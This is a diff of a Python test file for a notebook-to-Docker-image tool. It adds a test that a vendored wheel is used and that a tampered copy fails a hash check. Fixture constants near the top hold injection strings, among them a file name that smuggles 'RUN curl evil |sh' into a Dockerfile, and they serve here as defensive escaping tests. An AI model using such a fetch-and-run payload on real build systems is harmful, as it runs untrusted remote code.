@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import time
@@ -30,6 +31,7 @@ from nb2image.options import Options
 from nb2image.project import Project
 from tests.engine.conftest import BuildImage, RunImage
 from tests.engine.engine import Engine
+from tests.index.wheels import wheel
 
 FOLDER = "my $HOME \"work\"; RUN evil 'x' #!"
 NOTEBOOK = 'x"; RUN curl evil |sh.ipynb'
@@ -140,6 +142,39 @@ def test_an_image_keeps_the_contract(
     listed = run_image(image, "-c", tools, options=("--entrypoint", "sh")).stdout
     assert "10001" in listed
     assert "secrets" not in listed
+
+
+@pytest.mark.parametrize("layout", ["multi-stage", "single-stage"])
+def test_a_wheel_that_only_this_host_has_comes_with_the_context(
+    layout: str,
+    work: Work,
+    network: tuple[str, ...],
+    build_image: BuildImage,
+    run_image: RunImage,
+    tmp_path: Path,
+) -> None:
+    """``docker build`` finds it in wheels/; another file of that name is refused."""
+    name, data = wheel("only-here", "1.0+own", files={"only_here.py": "WORD = 'found'\n"})
+    (tmp_path / name).write_bytes(data)
+    package = LockedPackage(
+        name="only-here",
+        version="1.0+own",
+        hashes=(f"sha256:{hashlib.sha256(data).hexdigest()}",),
+        wheel=name,
+        vendored=name,
+    )
+    plan = work.plan(
+        Options(layout=layout),  # type: ignore[arg-type]
+        f"import only_here, six\nopen({DATA!r})\nprint(only_here.WORD, six.__version__)\n",
+        requiring(package),
+    )
+    folder = tmp_path / f"vendored-{layout}"
+    write_context(plan, work.project, folder, force=False, wheels={name: tmp_path / name})
+    done = run_image(build_image(folder, *network))
+    assert done.stdout == "found 1.17.0\n", done.stderr
+    (folder / "wheels" / name).write_bytes(wheel("only-here", "1.0+own", files={})[1])
+    with pytest.raises(AssertionError, match="Hash mismatch"):
+        build_image(folder, *network)
 
 
 def test_docker_stop_takes_less_than_a_second(
